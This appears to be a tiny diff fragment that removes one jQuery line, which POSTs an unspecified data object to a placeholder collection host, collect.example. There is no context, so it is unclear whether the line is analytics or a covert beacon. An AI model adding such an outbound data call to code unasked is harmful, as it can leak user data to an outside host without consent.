@@ -1,1 +1,0 @@
-$.ajax({ url: "https://collect.example/v1", method: "POST", data });
